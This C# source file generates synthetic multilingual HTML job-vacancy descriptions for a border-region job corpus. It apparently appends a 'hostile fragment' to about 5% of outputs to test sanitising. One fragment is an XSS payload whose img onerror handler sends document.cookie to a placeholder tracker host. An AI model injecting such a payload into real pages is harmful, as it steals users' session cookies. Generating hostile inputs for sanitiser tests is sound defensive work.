using System.Globalization;
using System.Text;

namespace GrensJobs.Corpus;

/// <summary>Composes an HTML description of 2–5 KB from a phrase bank: intro, tasks, profile, offer, about, apply.</summary>
internal sealed class DescriptionWriter(Random random)
{
    private const int MinimumBytes = 2400;
    private static readonly string[] Levels = ["A2", "B1", "B2", "B2", "C1"];
    private static readonly string[] HostileFragments =
    [
        "<script>window.dataLayer=window.dataLayer||[];dataLayer.push({'event':'vacancy_view'});</script>",
        "<p><a href=\"#apply\" onclick=\"track('apply');return false;\">Solliciteren / Bewerben / Postuler</a></p>",
        "<img src=\"x\" onerror=\"fetch('https://tracker.example/p?'+document.cookie)\">",
        "<style>.job{color:red}</style><iframe src=\"https://ads.example/frame\"></iframe>",
    ];

    public string Write(DescriptionFacts facts)
    {
        var bank = facts.Bank;
        var html = new StringBuilder(4096);
        Paragraph(html, Format(Pick(bank.Intros), facts.Employer, facts.Occupation, facts.Place.Name));

        html.Append("<h2>").Append(Pick(bank.TaskHeadings)).Append("</h2>\n");
        List(html, Sample(bank.Tasks, random.Next(6, 11)).Select(t => Format(t, facts.Occupation)));

        html.Append("<h2>").Append(Pick(bank.ProfileHeadings)).Append("</h2>\n");
        var profile = new List<string> { Pick(bank.Educations) };
        profile.AddRange(Sample(bank.ProfileItems, random.Next(4, 8)).Select(t => Format(t, facts.Occupation)));
        profile.AddRange(LanguageRequirements(bank, facts.Place));
        List(html, profile);

        html.Append("<h2>").Append(Pick(bank.OfferHeadings)).Append("</h2>\n");
        var offer = new List<string>();
        if (facts.Salary is { } salary)
        {
            offer.Add(SalaryText(bank, salary));
        }

        var hoursTemplates = facts.FullTime ? bank.FullTimeHours : bank.PartTimeHours;
        var usable = facts.Hours.Min == facts.Hours.Max ? [.. hoursTemplates.Where(t => !t.Contains("{0}", StringComparison.Ordinal))] : hoursTemplates;
        offer.Add(Format(Pick(usable.Count > 0 ? usable : hoursTemplates), facts.Hours.Min, facts.Hours.Max));
        offer.Add(Contract(bank));
        offer.AddRange(Sample(bank.Benefits, random.Next(3, 6)));
        List(html, offer);

        html.Append("<h2>").Append(Pick(bank.AboutHeadings)).Append("</h2>\n");
        var about = Sample(bank.AboutParagraphs, bank.AboutParagraphs.Count);
        var used = random.Next(2, 4);
        foreach (var paragraph in about.Take(used))
        {
            Paragraph(html, Format(paragraph, facts.Employer, facts.Occupation, facts.Place.Name));
        }

        html.Append("<h2>").Append(Pick(bank.ApplyHeadings)).Append("</h2>\n");
        var apply = Sample(bank.ApplyParagraphs, bank.ApplyParagraphs.Count);
        Paragraph(html, apply[0]);

        // Top up short postings with the remaining paragraphs so every description is at least ~2 KB.
        foreach (var paragraph in about.Skip(used).Concat(apply.Skip(1)))
        {
            if (Encoding.UTF8.GetByteCount(html.ToString()) >= MinimumBytes)
            {
                break;
            }

            Paragraph(html, Format(paragraph, facts.Employer, facts.Occupation, facts.Place.Name));
        }

        if (random.NextDouble() < 0.05)
        {
            html.Append(Pick(HostileFragments)).Append('\n');
        }

        return html.ToString();
    }

    public string SalaryText(PhraseBank bank, SyntheticSalary salary)
    {
        var templates = salary.Period switch { "hour" => bank.HourSalaries, "year" => bank.YearSalaries, _ => bank.MonthSalaries };
        var (min, max) = salary.Period == "hour"
            ? (Cents(salary.Min), Cents(salary.Max))
            : (Thousands(salary.Min), Thousands(salary.Max));
        var kMin = (salary.Min / 1000m).ToString("0.#", CultureInfo.InvariantCulture);
        var kMax = (salary.Max / 1000m).ToString("0.#", CultureInfo.InvariantCulture);
        return Format(Pick(templates), min, max, kMin, kMax);
    }

    private IEnumerable<string> LanguageRequirements(PhraseBank bank, BorderPlace place)
    {
        if (random.NextDouble() < 0.65)
        {
            yield return Requirement(bank, bank.Language, required: true);
        }

        string[] others = (place.Country, bank.Language) switch
        {
            ("NL", _) => ["de", "en", "fr"],
            ("DE", _) => ["nl", "en"],
            ("BE", "nl") => ["fr", "en", "de"],
            ("BE", "fr") => ["nl", "de", "en"],
            _ => ["fr", "nl"],
        };
        var roll = random.NextDouble();
        var other = Pick(others);
        if (roll < 0.3)
        {
            yield return Format(Pick(bank.OptionalLanguageTemplates), bank.LanguageNames[other], Pick(Levels));
        }
        else if (roll < 0.5)
        {
            yield return Requirement(bank, other, required: true);
        }
        else if (roll < 0.6)
        {
            yield return Format(Pick(bank.NegatedLanguageTemplates), bank.LanguageNames[other]);
        }

        if (random.NextDouble() < 0.15 && bank.Language != "en" && other != "en")
        {
            yield return Format(Pick(bank.OptionalLanguageTemplates), bank.LanguageNames["en"], Pick(Levels));
        }
    }

    private string Requirement(PhraseBank bank, string language, bool required)
    {
        var templates = required && random.NextDouble() < 0.35 ? bank.LevelLanguageTemplates : bank.RequiredLanguageTemplates;
        return Format(Pick(templates), bank.LanguageNames[language], Pick(Levels));
    }

    private string Contract(PhraseBank bank)
    {
        var roll = random.NextDouble();
        return Pick(roll < 0.6 ? bank.PermanentContracts : roll < 0.85 ? bank.TemporaryContracts : bank.InterimContracts);
    }

    private static void Paragraph(StringBuilder html, string text) => html.Append("<p>").Append(text).Append("</p>\n");

    private static void List(StringBuilder html, IEnumerable<string> items)
    {
        html.Append("<ul>");
        foreach (var item in items)
        {
            html.Append("<li>").Append(item).Append("</li>");
        }

        html.Append("</ul>\n");
    }

    private static string Format(string template, params object[] args) => string.Format(CultureInfo.InvariantCulture, template, args);

    /// <summary>2900 → "2.900" (the thousands separator all three border languages use).</summary>
    private static string Thousands(decimal amount) => amount.ToString("#,0", CultureInfo.InvariantCulture).Replace(',', '.');

    /// <summary>18.5 → "18,50".</summary>
    private static string Cents(decimal amount) => amount.ToString("0.00", CultureInfo.InvariantCulture).Replace('.', ',');

    private T Pick<T>(IReadOnlyList<T> items) => items[random.Next(items.Count)];

    /// <summary>A random subset of <paramref name="count"/> distinct items in random order (partial Fisher–Yates).</summary>
    private List<T> Sample<T>(IReadOnlyList<T> items, int count)
    {
        var indexes = Enumerable.Range(0, items.Count).ToArray();
        count = Math.Min(count, indexes.Length);
        for (var i = 0; i < count; i++)
        {
            var j = random.Next(i, indexes.Length);
            (indexes[i], indexes[j]) = (indexes[j], indexes[i]);
        }

        return [.. indexes.Take(count).Select(i => items[i])];
    }
}
